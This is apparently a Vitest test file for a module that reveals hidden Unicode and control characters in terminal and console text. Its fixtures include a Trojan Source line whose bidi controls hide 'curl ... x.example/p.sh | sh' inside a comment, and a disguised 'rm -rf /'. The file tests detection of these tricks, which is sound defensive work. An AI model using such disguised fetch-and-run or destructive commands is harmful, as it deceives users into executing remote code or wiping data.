import { describe, expect, it } from 'vitest'
import { firstHiddenCharacter, hasHiddenCharacters, hiddenCharactersIn, visibleJson, visibleSegments, visibleText, type VisibleSegment } from './visible-text'

/** The Trojan Source hook of the finding: RLO, LRI and PDI make the `curl` read as part of a comment. */
const trojanHook = 'npm run -s lint # offline, no network \u202e ; \u2066curl -s https://x.example/p.sh | sh\u2069'

const drawn = (segments: VisibleSegment[]) => segments.map((segment) => segment.text).join('')
const hidden = (segments: VisibleSegment[]) => segments.filter((segment) => segment.kind === 'hidden')

describe('visible text for the terminal', () => {
  it('shows C0, DEL, C1 and the bidi and invisible format characters as escapes', () => {
    expect(visibleText('a\u001b[2Kb\u0007c\td\ne\u007f\u009b')).toBe('a\\x1b[2Kb\\x07c\\x09d\\x0ae\\x7f\\x9b')
    expect(visibleText('x\u202etxt.exe\u2066\u200b\ufeff\u061c\u2028')).toBe('x\\u202etxt.exe\\u2066\\u200b\\ufeff\\u061c\\u2028')
    expect(visibleText('plain text, ünïcode ✓ and 中文')).toBe('plain text, ünïcode ✓ and 中文')
  })

  it('shows the characters that draw nothing: soft hyphen, fillers, annotations, and tag characters spelling ASCII', () => {
    expect(visibleText('rm\u00ad -rf\u3164 /\ufff9x')).toBe('rm\\xad -rf\\u3164 /\\ufff9x')
    expect(visibleText('a\u034fb\u17b4c\u17b5')).toBe('a\\u034fb\\u17b4c\\u17b5')
    // "ok" then tags spelling "rm": invisible in any browser, and astral (a surrogate pair).
    expect(visibleText('ok\u{e0072}\u{e006d}')).toBe('ok\\u{e0072}\\u{e006d}')
    expect(firstHiddenCharacter('name\u{e0041}')).toBe('\u{e0041}')
    // Emoji keep their variation selectors and skin tones.
    expect(visibleText('❤\ufe0f 👍🏽')).toBe('❤\ufe0f 👍🏽')
  })

  it('JSON keeps its value and escapes what JSON.stringify leaves raw', () => {
    const value = { summary: 'a\u001b\u009b\u202e\u2069b\u{e0061}', n: 1 }
    const json = visibleJson(value)
    // eslint-disable-next-line no-control-regex -- the control characters are what this looks for
    expect(json).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\udb40/)
    expect(json).toContain('\\u009b')
    expect(json).toContain('\\udb40\\udc61')
    expect(JSON.parse(json)).toEqual(value)
  })
})

describe('visible segments for the console', () => {
  it('splits the Trojan Source hook into its text and each bidi control, named', () => {
    const segments = visibleSegments(trojanHook)
    expect(drawn(segments)).toBe(visibleText(trojanHook))
    expect(drawn(segments)).not.toMatch(/[\u202e\u2066\u2069]/)
    expect(hidden(segments)).toEqual([
      { kind: 'hidden', text: '\\u202e', codePoint: 0x202e, label: 'U+202E RIGHT-TO-LEFT OVERRIDE', layout: false },
      { kind: 'hidden', text: '\\u2066', codePoint: 0x2066, label: 'U+2066 LEFT-TO-RIGHT ISOLATE', layout: false },
      { kind: 'hidden', text: '\\u2069', codePoint: 0x2069, label: 'U+2069 POP DIRECTIONAL ISOLATE', layout: false }
    ])
    expect(segments[0]).toEqual({ kind: 'text', text: 'npm run -s lint # offline, no network ' })
  })

  it('on one line escapes LF and TAB too, marked as layout; in a block keeps them as text and still escapes CR, ESC, ZWSP', () => {
    const text = 'a\tb\nc\r\nd\u001b[0m\u200be'
    const line = visibleSegments(text)
    expect(drawn(line)).toBe('a\\x09b\\x0ac\\x0d\\x0ad\\x1b[0m\\u200be')
    expect(
      hidden(line)
        .filter((segment) => segment.kind === 'hidden' && segment.layout)
        .map((segment) => segment.text)
    ).toEqual(['\\x09', '\\x0a', '\\x0a'])

    const block = visibleSegments(text, { multiline: true })
    expect(drawn(block)).toBe('a\tb\nc\\x0d\nd\\x1b[0m\\u200be')
    expect(hidden(block).map((segment) => (segment.kind === 'hidden' ? segment.label : ''))).toEqual([
      'U+000D CARRIAGE RETURN',
      'U+001B ESCAPE',
      'U+200B ZERO WIDTH SPACE'
    ])
  })

  it('leaves plain text one segment, and empty text none', () => {
    expect(visibleSegments('plain ✓ 中文 עברית')).toEqual([{ kind: 'text', text: 'plain ✓ 中文 עברית' }])
    expect(visibleSegments('')).toEqual([])
    expect(visibleSegments('\u202e')).toHaveLength(1)
  })

  it('names a tag character by the ASCII it hides, and every escaped character by something', () => {
    expect(hidden(visibleSegments('x\u{e0063}'))[0]).toMatchObject({ text: '\\u{e0063}', label: 'U+E0063 TAG hiding "c"' })
    for (let code = 0; code < 0x10000; code++) {
      const char = String.fromCharCode(code)
      if (code >= 0xd800 && code <= 0xdfff) continue
      const [segment] = visibleSegments(char)
      if (segment?.kind === 'hidden') expect(segment.label, `U+${code.toString(16)}`).toMatch(/^U\+[0-9A-F]{4} [A-Z]/)
    }
  })
})

describe('hidden characters as a flag', () => {
  it('counts every hidden character but LF and TAB', () => {
    expect(hasHiddenCharacters(trojanHook)).toBe(true)
    expect(hasHiddenCharacters('line one\n\tline two')).toBe(false)
    expect(hasHiddenCharacters('crlf\r\n')).toBe(true)
    expect(hasHiddenCharacters('\u001b[31mred')).toBe(true)
    expect(hasHiddenCharacters('zero\u200bwidth')).toBe(true)
    expect(hasHiddenCharacters('plain ✓')).toBe(false)
    // The check keeps no state between calls (a global regex would skip the second).
    expect([hasHiddenCharacters('\u202e'), hasHiddenCharacters('\u202e')]).toEqual([true, true])
  })

  it('lists the distinct characters of several texts in order, with counts', () => {
    expect(hiddenCharactersIn([trojanHook, 'a\u202eb\n', 'c\u200b'])).toEqual([
      { codePoint: 0x202e, label: 'U+202E RIGHT-TO-LEFT OVERRIDE', count: 2 },
      { codePoint: 0x2066, label: 'U+2066 LEFT-TO-RIGHT ISOLATE', count: 1 },
      { codePoint: 0x2069, label: 'U+2069 POP DIRECTIONAL ISOLATE', count: 1 },
      { codePoint: 0x200b, label: 'U+200B ZERO WIDTH SPACE', count: 1 }
    ])
    expect(hiddenCharactersIn(['plain', 'a\tb\n'])).toEqual([])
  })
})
